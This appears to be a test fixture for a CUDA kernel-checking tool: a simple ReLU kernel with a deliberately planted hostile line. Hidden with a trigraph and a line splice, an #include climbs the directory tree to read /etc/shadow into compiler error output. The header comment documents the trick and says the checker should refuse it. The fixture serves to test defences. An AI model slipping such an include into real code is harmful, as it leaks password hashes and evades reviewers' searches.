// kgate-task: relu
// planted defect: HOSTILE (include outside the toolkit). The include climbs
// out of the include path with .. to read /etc/shadow into the compiler's
// error messages (and so into the report), spelled with a trigraph and a
// line splice that a naive text search misses. Refused as nvcc reads it
// (P0, KG-INCLUDE).
#include <cuda_runtime.h>
??=inc\
lude "../../../../../../etc/shadow"

__global__ void relu_kernel(const float* x, float* y, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = fmaxf(x[i], 0.0f);
}

extern "C" void launch(const float* x, float* y, int n, cudaStream_t stream)
{
    relu_kernel<<<(n + 255) / 256, 256, 0, stream>>>(x, y, n);
}
